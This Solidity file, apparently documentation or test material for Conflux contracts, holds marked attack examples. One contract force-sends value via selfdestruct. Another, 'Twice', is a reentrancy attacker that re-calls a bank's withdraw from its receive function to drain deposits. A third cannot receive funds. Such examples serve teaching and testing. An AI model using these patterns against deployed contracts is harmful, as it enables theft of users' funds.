// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

// #region attack
contract Gift {
    constructor(address payable receiver) payable {
        selfdestruct(receiver); // runs no code of the receiver, so it cannot be rejected
    }
}
// #endregion attack

// #region second
interface IBank {
    function deposit() external payable;
    function withdraw(address payable to) external;
}

/// Withdraws, then withdraws again while it is being paid.
contract Twice {
    function attack(IBank bank) external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw(payable(address(this)));
    }

    receive() external payable {
        if (msg.value > 0) IBank(msg.sender).withdraw(payable(address(this)));
    }
}
// #endregion second

/// Cannot receive CFX. Its owner decides where its deposit goes.
contract Mute {
    address private immutable OWNER = msg.sender;

    error NotOwner();

    function deposit(IBank bank) external payable {
        bank.deposit{value: msg.value}();
    }

    function withdraw(IBank bank, address payable to) external {
        if (msg.sender != OWNER) revert NotOwner();
        bank.withdraw(to);
    }
}
